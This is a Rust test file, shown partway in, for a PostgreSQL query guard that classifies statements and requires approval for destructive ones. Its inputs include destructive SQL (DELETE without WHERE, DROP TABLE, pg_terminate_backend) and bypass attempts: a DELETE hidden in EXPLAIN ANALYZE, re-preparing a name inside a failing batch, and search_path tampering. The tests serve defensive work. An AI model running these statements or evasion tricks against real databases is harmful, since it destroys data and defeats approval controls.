    let d = guard.check_query(&mut s, "EXECUTE p");
    assert_eq!((d.class, d.action.clone()), (Class::Destructive, Action::Approve), "{:?}", d.reasons);
    assert!(d.reasons.iter().any(|r| r.contains("DELETE without WHERE")), "{:?}", d.reasons);

    // In one message.
    let d = guard.check_query(&mut Session::default(), "PREPARE p AS DELETE FROM t; EXECUTE p");
    assert_eq!(d.action, Action::Approve);
    // A guarded DELETE stays under the row guard when executed.
    let mut s = Session::default();
    guard.check_query(&mut s, "PREPARE q(int) AS DELETE FROM orders WHERE id = $1");
    assert_eq!(guard.check_query(&mut s, "EXECUTE q(7)").action, Action::RowGuard { max_rows: 1000 });
    // …but not when hidden inside EXPLAIN ANALYZE.
    assert_eq!(guard.check_query(&mut s, "EXPLAIN ANALYZE EXECUTE q(7)").action, Action::Approve);
    // A harmless one.
    guard.check_query(&mut s, "PREPARE r AS SELECT 1");
    assert_eq!(guard.check_query(&mut s, "EXECUTE r").action, Action::Allow);
    assert_eq!(guard.check_query(&mut s, "execute R").action, Action::Allow, "names are case-folded");
    // CREATE TABLE AS EXECUTE of a destructive one.
    guard.check_query(&mut s, "PREPARE k AS SELECT pg_terminate_backend(1)");
    assert_eq!(guard.check_query(&mut s, "CREATE TABLE x AS EXECUTE k").action, Action::Approve);
}

#[test]
fn deallocate_then_reuse_of_a_name() {
    let guard = Guard::new(Policy::default());
    let mut s = Session::default();
    guard.check_query(&mut s, "PREPARE p AS SELECT 1");
    s.synced(true);
    guard.check_query(&mut s, "DEALLOCATE p");
    s.synced(true);
    assert_eq!(guard.check_query(&mut s, "EXECUTE p").action, Action::Deny, "deallocated: unknown");
    guard.check_query(&mut s, "PREPARE p AS DELETE FROM orders");
    s.synced(true);
    assert_eq!(guard.check_query(&mut s, "EXECUTE p").class, Class::Destructive, "the new meaning of p counts");
    // PREPARE takes only SELECT/INSERT/UPDATE/DELETE/MERGE/VALUES: anything else is a syntax error,
    // denied, and binds nothing.
    assert_eq!(guard.check_query(&mut s, "PREPARE t AS TRUNCATE orders").action, Action::Deny);
    assert_eq!(guard.check_query(&mut s, "EXECUTE t").action, Action::Deny);

    guard.check_query(&mut s, "PREPARE a AS SELECT 1; PREPARE b AS SELECT 2");
    s.synced(true);
    guard.check_query(&mut s, "DEALLOCATE ALL");
    s.synced(true);
    assert_eq!(guard.check_query(&mut s, "EXECUTE a").action, Action::Deny);
    guard.check_query(&mut s, "PREPARE c AS SELECT 1");
    s.synced(true);
    guard.check_query(&mut s, "DISCARD ALL");
    s.synced(true);
    assert_eq!(guard.check_query(&mut s, "EXECUTE c").action, Action::Deny);
}

#[test]
fn a_reprepared_name_stays_suspect_until_the_server_confirms() {
    // Attack: get `p` approved as a DELETE, then in a batch that fails early (so the server never
    // runs the rest) deallocate and re-prepare `p` as something harmless; the server still holds
    // the DELETE, and EXECUTE p must still need approval.
    let guard = Guard::new(Policy::default());
    let mut s = Session::default();
    guard.check_query(&mut s, "PREPARE p AS DELETE FROM orders");
    s.synced(true); // approved and run
    guard.check_query(&mut s, "SELECT 1/0; DEALLOCATE p; PREPARE p AS SELECT 1");
    s.synced(false); // the server stopped at the division by zero
    let d = guard.check_query(&mut s, "EXECUTE p");
    assert_eq!(d.action, Action::Approve, "{:?}", d.reasons);
    // A later successful batch that does not touch p changes nothing.
    guard.check_query(&mut s, "SELECT 1");
    s.synced(true);
    assert_eq!(guard.check_query(&mut s, "EXECUTE p").action, Action::Approve);
    // Once p is re-prepared in a batch that succeeds, the old binding is gone.
    guard.check_query(&mut s, "DEALLOCATE p; PREPARE p AS SELECT 1");
    s.synced(true);
    assert_eq!(guard.check_query(&mut s, "EXECUTE p").action, Action::Allow);
}

#[test]
fn extended_protocol_parse_then_execute_by_name() {
    let guard = Guard::new(Policy::default());
    let mut s = Session::default();
    let d = guard.check_parse(&mut s, "s1", "DELETE FROM orders");
    assert_eq!(d.class, Class::Destructive, "Parse reports what executing would need");
    let d = guard.check_parse(&mut s, "s2", "SELECT * FROM orders WHERE id = $1");
    assert_eq!(d.action, Action::Allow);
    s.synced(true);
    assert_eq!(guard.check_execute(&s, "s1").action, Action::Approve);
    assert_eq!(guard.check_execute(&s, "s2").action, Action::Allow);
    assert_eq!(guard.check_execute(&s, "nope").action, Action::Deny, "unknown name fails closed");
    assert_eq!(guard.check_execute(&s, "").action, Action::Deny, "no unnamed statement yet");

    // Unnamed statement, as most drivers use it.
    guard.check_parse(&mut s, "", "UPDATE t SET a = 1 WHERE id = $1");
    s.synced(true);
    assert_eq!(guard.check_execute(&s, "").action, Action::RowGuard { max_rows: 1000 });
    guard.check_parse(&mut s, "", "SELECT 1");
    s.synced(true);
    assert_eq!(guard.check_execute(&s, "").action, Action::Allow);

    // Close, then Execute.
    s.close_statement("s2");
    s.synced(true);
    assert_eq!(guard.check_execute(&s, "s2").action, Action::Deny);

    // A simple Query destroys the unnamed statement.
    guard.check_query(&mut s, "SELECT 1");
    s.synced(true);
    assert_eq!(guard.check_execute(&s, "").action, Action::Deny);
}

#[test]
fn extended_protocol_pipeline_error_keeps_the_old_binding_suspect() {
    // Parse("", DELETE…) approved and run; then a pipeline whose first message fails makes the
    // server skip Parse("", "SELECT 1"): Execute("") would run the old DELETE again.
    let guard = Guard::new(Policy::default());
    let mut s = Session::default();
    guard.check_parse(&mut s, "", "DELETE FROM orders");
    s.synced(true);
    guard.check_parse(&mut s, "x", "SELECT 1/0");
    guard.check_parse(&mut s, "", "SELECT 1");
    s.synced(false);
    let d = guard.check_execute(&s, "");
    assert_eq!(d.action, Action::Approve, "{:?}", d.reasons);
    assert!(d.reasons[0].contains("re-prepared"), "{:?}", d.reasons);
}

#[test]
fn extended_protocol_statement_that_executes_a_sql_prepared_one() {
    // Parse("s", "EXECUTE p") is resolved at Execute time: p may have changed meanwhile.
    let guard = Guard::new(Policy::default());
    let mut s = Session::default();
    guard.check_query(&mut s, "PREPARE p AS SELECT 1");
    s.synced(true);
    guard.check_parse(&mut s, "s", "EXECUTE p");
    s.synced(true);
    assert_eq!(guard.check_execute(&s, "s").action, Action::Allow);
    guard.check_query(&mut s, "DEALLOCATE p; PREPARE p AS DELETE FROM orders");
    s.synced(true);
    assert_eq!(guard.check_execute(&s, "s").action, Action::Approve);
    // A statement that executes itself does not loop.
    guard.check_parse(&mut s, "loop", "EXECUTE loop");
    assert_eq!(guard.check_execute(&s, "loop").action, Action::Deny);
}

#[test]
fn search_path_tampering_is_remembered_by_the_session() {
    let policy = Policy { unknown_functions: guard::UnknownFunctions::Destructive, ..Policy::default() };
    let guard = Guard::new(policy);
    let mut s = Session::default();
    assert_eq!(guard.check_query(&mut s, "SELECT lower('x')").action, Action::Allow);
    assert_eq!(guard.check_query(&mut s, "SET search_path = public, pg_catalog").class, Class::Ddl);
    assert!(s.search_path_tampered());
    // lower() may now be public.lower: an unknown function, destructive under this policy.
    let d = guard.check_query(&mut s, "SELECT lower('x')");
    assert_eq!(d.action, Action::Approve, "{:?}", d.reasons);
    assert_eq!(guard.check_query(&mut s, "SELECT pg_catalog.lower('x')").action, Action::Allow);
    // pg_catalog first (or absent, which means first) is harmless.
    let mut s = Session::default();
    guard.check_query(&mut s, "SET search_path = pg_catalog, public");
    guard.check_query(&mut s, "SET search_path = public");
    assert!(!s.search_path_tampered());
    // set_config and the extended protocol too.
    let mut s = Session::default();
    guard.check_query(&mut s, "SELECT set_config('search_path', 'evil,pg_catalog', false)");
    assert!(s.search_path_tampered());
    let mut s = Session::default();
    guard.check_parse(&mut s, "", "SET search_path = evil, pg_catalog");
    assert!(s.search_path_tampered(), "tightened at Parse already");
}

#[test]
fn prepared_statements_per_session_are_bounded() {
    let policy = Policy { max_prepared_statements: 3, ..Policy::default() };
    let guard = Guard::new(policy);
    let mut s = Session::default();
    for i in 0..3 {
        assert_eq!(guard.check_parse(&mut s, &format!("s{i}"), "SELECT 1").action, Action::Allow);
    }
    assert_eq!(guard.check_parse(&mut s, "s3", "SELECT 1").action, Action::Deny);
    assert_eq!(guard.check_query(&mut s, "PREPARE p AS SELECT 1").action, Action::Deny);
    assert_eq!(guard.check_parse(&mut s, "s0", "SELECT 2").action, Action::Allow, "re-binding a held name is fine");
    assert!(s.prepared_count() <= 3);
}

#[test]
fn decisions_serialise_for_the_audit_log() {
    let guard = Guard::new(Policy::default());
    let d = guard.check_query(&mut Session::default(), "DELETE FROM orders WHERE id = 1; DROP TABLE t");
    let v = serde_json::to_value(&d).unwrap();
    assert_eq!(v["action"]["action"], "approve");
    assert_eq!(v["class"], "destructive");
    assert_eq!(v["statements"][0]["kind"], "DELETE");
    assert_eq!(v["statements"][0]["action"]["action"], "row_guard");
    assert_eq!(v["statements"][0]["action"]["max_rows"], 1000);
    assert_eq!(v["statements"][1]["objects"][0], "t");
    assert!(d.summary().contains("DROP TABLE t"), "{}", d.summary());
}
